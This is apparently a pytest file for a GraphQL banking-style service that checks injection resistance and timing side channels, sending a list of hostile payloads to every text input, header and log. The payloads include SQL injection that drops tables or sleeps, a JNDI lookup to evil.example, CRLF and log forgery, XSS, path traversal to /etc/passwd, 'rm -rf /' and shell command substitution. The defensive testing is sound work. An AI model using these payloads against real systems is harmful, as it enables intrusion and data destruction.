"""Rows A15 and A19: text that some other language would obey, and answers that tell by how long they take."""

from __future__ import annotations

import asyncio
import statistics
import time
from collections.abc import AsyncIterator, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any
from uuid import uuid4

import asyncpg
import httpx
import pytest
from argon2 import PasswordHasher
from graphql import GraphQLInputObjectType, get_named_type, is_input_object_type

from isthmus.auth.scopes import Role
from isthmus.graphql.ids import Kind, encode
from isthmus.runtime.servers import EmbeddedServers
from tests.api.conftest import CONTRACT, Person, Served, deposit
from tests.attacks.count import Row
from tests.attacks.logs import Logged, logging_everything
from tests.attacks.operations import CALLS, root_fields
from tests.attacks.wire import http
from tests.auth import provider_kit
from tests.auth.provider_kit import ADA, Kit, on_its_own_database

PAYLOADS = [
    "' or 1=1 --", "'; drop table accounts; --", '" or ""="', "1; select pg_sleep(5)",
    "') union select subject from provider.users --", "\\",
    "\\'; --", "%", "_%", "$1", "$$ $$", "{{7*7}}", "${7*7}", "#{7*7}", "${jndi:ldap://evil.example/a}", "%s%s%n",
    "%(password)s", "{0.__class__}",
    "\r\nSet-Cookie: a=b", "\nX: y", "\r\nFLUSHALL\r\n", '\n{"level":"error","event":"forged"}',
    "\x1b[2J\x1b[31mred", "\x07", "\u2028", "\u202e",
    "<script>alert(1)</script>", "=cmd|' /C calc'!A1", "../../etc/passwd", "; rm -rf /", "`id`", "$(id)", '{"$gt": ""}', "\ufeff", "\ufffe",
    "🦆", "ﷺ" * 18, "é" * 100, "a" * 101, "\0", "a\0b",
]  # fmt: skip
_TEXTS = ("String", "ID", "AssetCode", "Decimal", "DateTime", "Position")


def text_places(found: Any) -> Iterator[str]:
    """Where an argument of a field takes text, as a path through its inputs."""
    for name, argument in found.args.items():
        yield from _places(name, argument.type)


def _places(path: str, given: Any) -> Iterator[str]:
    named = get_named_type(given)
    if named.name in _TEXTS:
        yield path
    elif is_input_object_type(named):
        assert isinstance(named, GraphQLInputObjectType)
        for name, inner in named.fields.items():
            yield from _places(f"{path}.{name}", inner.type)


async def rows_of(url: str) -> list[int]:
    connection = await asyncpg.connect(url)
    counts = [
        await connection.fetchval(f"select count(*) from {table}") for table in ("accounts", "assets", "provider.users")
    ]
    await connection.close()
    return counts


def without_a_line(logged: Logged, answers: list[httpx.Response]) -> list[int]:
    """Places of the answers whose request is not in the log, ten seconds after the last of them."""
    deadline = time.monotonic() + 10
    while True:
        seen = {line["correlation_id"] for line in logged.lines if line["event"] == "request"}
        unseen = [n for n, answer in enumerate(answers) if answer.headers["x-correlation-id"] not in seen]
        if not unseen or time.monotonic() > deadline:
            return unseen
        time.sleep(0.05)  # the line is written after the answer


@pytest.mark.timeout(300)
def test_a15_text_is_text_wherever_it_goes(served: Served, ada: Person, olga: Person, row: Row, tmp_path: Path) -> None:
    """Each payload at each place of the schema: no error of ours, nothing obeyed, and log lines that are one line each."""
    mine = ada.open()
    deposit(olga, mine, "50.00")
    tried = [
        (operation, call, place, text)
        for operation, found in root_fields()
        if not operation.startswith("Subscription")
        for call in [CALLS[operation]]
        for place in text_places(found)
        if place.split(".")[0] in call.variables
        for number, text in enumerate(PAYLOADS)
        if (number + len(place) + len(operation)) % 16 == 0  # each text at some places, each place with some texts
    ]
    assert len({(operation, place) for operation, _, place, _ in tried}) >= 25

    def attempt(one: Any) -> httpx.Response:
        _, call, place, text = one
        person = olga if call.role is Role.OPERATOR else ada
        return person.post(call.document, call.filled(place, text, mine))

    with logging_everything(tmp_path) as logged, ThreadPoolExecutor(6) as at_once:
        began = time.monotonic()
        answers = list(at_once.map(attempt, tried))
        took = time.monotonic() - began
        for (operation, _, place, text), answer in zip(tried, answers, strict=True):
            with row.case((operation, place, text)):
                assert answer.status_code < 500
                codes = {error["extensions"]["code"] for error in answer.json().get("errors", [])}
                assert codes <= {"BAD_USER_INPUT"}
                assert "set-cookie" not in answer.headers
                assert "syntax error at or near" not in answer.text
        if unseen := without_a_line(logged, answers):
            # Other threads of this process may take standard error for a moment; a text that hides its line hides it again.
            again = [attempt(tried[place]) for place in unseen]
            assert without_a_line(logged, again) == [], [tried[place] for place in unseen]
            answers += again
        lines = logged.lines
    assert took < 120, "nothing slept in the database"
    asked = {answer.headers["x-correlation-id"] for answer in answers}  # a line from before these may come late
    requests = [
        line["correlation_id"] for line in lines if line["event"] == "request" and line["correlation_id"] in asked
    ]
    assert len(requests) == len(set(requests)) >= len(tried), "a line for each, and none forged"
    assert len(asked) == len(answers)
    # What has no part in these requests may have its own troubles on a machine that is busy.
    theirs = [line for line in lines if line.get("correlation_id") in asked]
    assert [line for line in theirs if line["level"] not in ("debug", "info", "warning")] == []
    assert not any(line["event"] == "forged" for line in lines)
    for sign in ("\x1b", "\r", "\x07"):
        assert sign not in logged.text
    assert min(asyncio.run(rows_of(served.database_url))[:2]) > 0, "the tables are still there"


def test_a15_what_is_written_is_read_back_as_it_was(ada: Person, row: Row) -> None:
    for text in PAYLOADS:
        wish = {"asset": "EUR", "name": text, "idempotencyKey": uuid4().hex}
        with row.case(text):
            answer = ada.post(CONTRACT, {"input": wish}, "OpenAccount").json()["data"]["openAccount"]
            if answer["errors"]:
                assert len(text) > 100 or "\0" in text or not text.strip()
            else:
                assert ada.account(answer["account"]["id"], "name") == {"name": text}


def test_a15_headers_are_not_believed_and_not_repeated(served: Served, ada: Person, row: Row, tmp_path: Path) -> None:
    names = (
        "X-Correlation-Id",
        "X-Isthmus-Position",
        "User-Agent",
        "Referer",
        "Accept",
        "Accept-Language",
        "Cookie",
        "X-Request-Id",
        "traceparent",
    )
    with logging_everything(tmp_path) as logged:
        for name in names:
            for text in PAYLOADS:
                if any(ord(sign) < 32 for sign in text):
                    continue  # no client may send those; row G11 does
                with row.case((name, text)):
                    sent = [(b"Authorization", f"Bearer {ada.token}".encode()), (name.encode(), text.encode())]
                    answer = http().post(served.graphql, json={"query": "{ viewer { id } }"}, headers=sent)
                    assert answer.status_code in (200, 400, 406)
                    assert text not in " ".join(answer.headers.values()) or text in ("%", "_%", "\\")
        sent_in_all = len([text for text in PAYLOADS if not any(ord(sign) < 32 for sign in text)]) * len(names)
        deadline = time.monotonic() + 10
        while (written := [line["event"] for line in logged.lines].count("request")) < sent_in_all:
            assert time.monotonic() < deadline, written
            time.sleep(0.05)  # the line is written after the answer
        assert written == sent_in_all


def medians(samples: dict[str, list[float]]) -> dict[str, float]:
    return {name: statistics.median(values) for name, values in samples.items()}


def alike(samples: dict[str, list[float]], *, control: tuple[str, str], pair: tuple[str, str]) -> str | None:
    """Whether a pair differs by no more than a quarter of its median, or thrice what two halves of the same differ by."""
    found = medians(samples)
    noise = abs(found[control[0]] - found[control[1]])
    difference = abs(found[pair[0]] - found[pair[1]])
    return None if difference <= max(0.25 * found[pair[0]], 3 * noise) else f"{found} differ by {difference:.6f} s"


@pytest.mark.timeout(300)
def test_a19_a_foreign_id_takes_as_long_as_a_missing_one(ada: Person, grace: Person, olga: Person, row: Row) -> None:
    """552 questions and wishes, in turn. What is hers has a history, so that looking at it would take time."""
    hers, mine = grace.open(), ada.open()
    for _ in range(5):
        deposit(olga, hers, "1.00")
    node = "query($id: ID!) { node(id: $id) { id ... on Account { balance { posted { amount } } transactions { totalCount } } } }"
    rename = CALLS["Mutation.renameAccount"]
    asked = {"node": 150, "renameAccount": 34}
    for name, count in asked.items():
        samples: dict[str, list[float]] = {"foreign": [], "missing": [], "missing too": []}
        for _ in range(count):
            for kind, taken in samples.items():
                id = hers if kind == "foreign" else encode(Kind.ACCOUNT, uuid4())
                began = time.perf_counter()
                answer = (
                    ada.post(node, {"id": id})
                    if name == "node"
                    else ada.post(rename.document, rename.filled("input.accountId", id, mine))
                )
                taken.append(time.perf_counter() - began)
                with row.case((name, kind)):
                    assert ('"node":null' if name == "node" else "ACCOUNT_NOT_FOUND") in answer.text
        assert alike(samples, control=("missing", "missing too"), pair=("missing", "foreign")) is None


@pytest.fixture
async def slow_hashes(
    servers: EmbeddedServers, template: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> AsyncIterator[Kit]:
    """A provider whose hashes take a few milliseconds, so that one left out would be seen."""
    monkeypatch.setattr(provider_kit, "CHEAP", PasswordHasher(time_cost=1, memory_cost=4_096, parallelism=1))
    async with on_its_own_database(servers, template, tmp_path) as kit:
        yield kit


async def test_a19_an_unknown_e_mail_takes_as_long_as_a_known_one(slow_hashes: Kit, row: Row) -> None:
    passwords = slow_hashes.provider.passwords
    samples: dict[str, list[float]] = {"known": [], "unknown": [], "unknown too": []}
    await passwords.subject_of("nobody@example.com", "x", "10.0.0.1")  # the hash that stands for nobody's is made once
    for number in range(200):
        for kind, taken in samples.items():
            email = ADA if kind == "known" else f"{uuid4().hex}@example.com"
            began = time.perf_counter()
            with row.case(kind):
                assert await passwords.subject_of(email, "wrong", f"10.{number}.{len(taken) % 250}.1") is None
            taken.append(time.perf_counter() - began)
    assert medians(samples)["known"] > 0.001, "the hash is what takes the time"
    assert alike(samples, control=("unknown", "unknown too"), pair=("unknown", "known")) is None
